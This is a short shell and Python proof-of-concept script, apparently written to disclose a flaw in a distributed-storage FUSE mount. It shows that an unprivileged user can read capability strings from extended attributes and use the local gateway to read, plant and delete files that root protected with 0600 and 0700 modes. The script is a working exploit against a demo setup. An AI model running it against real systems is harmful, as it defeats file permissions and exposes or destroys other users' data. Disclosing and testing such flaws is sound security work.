#!/bin/bash
# cap_escalation.sh: POSIX modes do not protect a mount's content from other local users.
# Any user who may read a directory (r bit) gets its WRITE cap from the user.cairn.writecap xattr, and
# its read cap gives every file below it, whatever their modes; the demo's gateway on 127.0.0.1 (or any
# client node of the grid) then reads and changes them.  Run as root against a demo mount at $M.
M=${M:-/var/tmp/hp-mnt}; GW=${GW:-http://127.0.0.1:3456}
mkdir -m 755 $M/esc2; echo "TOP SECRET" > $M/esc2/secret; chmod 600 $M/esc2/secret
mkdir -m 700 $M/esc2/private; echo "also secret" > $M/esc2/private/s2
setpriv --reuid=65534 --regid=65534 --clear-groups /usr/bin/python3 - "$M" "$GW" <<'PY'
import os, sys, urllib.request
M, GW = sys.argv[1], sys.argv[2]
try: open(M + "/esc2/secret").read()
except OSError as e: print("nobody, through the mount:", e.strerror)                       # EACCES, as on ext4
rc = os.getxattr(M + "/esc2", "user.cairn.readcap").decode()                               # allowed: dir is r-x for others
for p in ("/secret", "/private/s2"):
    print("nobody, through the cap:", p, urllib.request.urlopen(GW + "/uri/" + rc + p).read())  # 0600 file, 0700 dir: read
wc = os.getxattr(M + "/esc2", "user.cairn.writecap").decode()                              # write cap of a root 0755 dir
r = urllib.request.urlopen(urllib.request.Request(GW + "/uri/" + wc + "/planted", data=b"by nobody", method="PUT"))
print("nobody PUT into root's 0755 dir:", r.status)
r = urllib.request.urlopen(urllib.request.Request(GW + "/uri/" + wc + "/secret", method="DELETE"))
print("nobody DELETE of root's 0600 file:", r.status)
print("root dir of the mount, too:", os.getxattr(M, "user.cairn.writecap")[:10])
PY
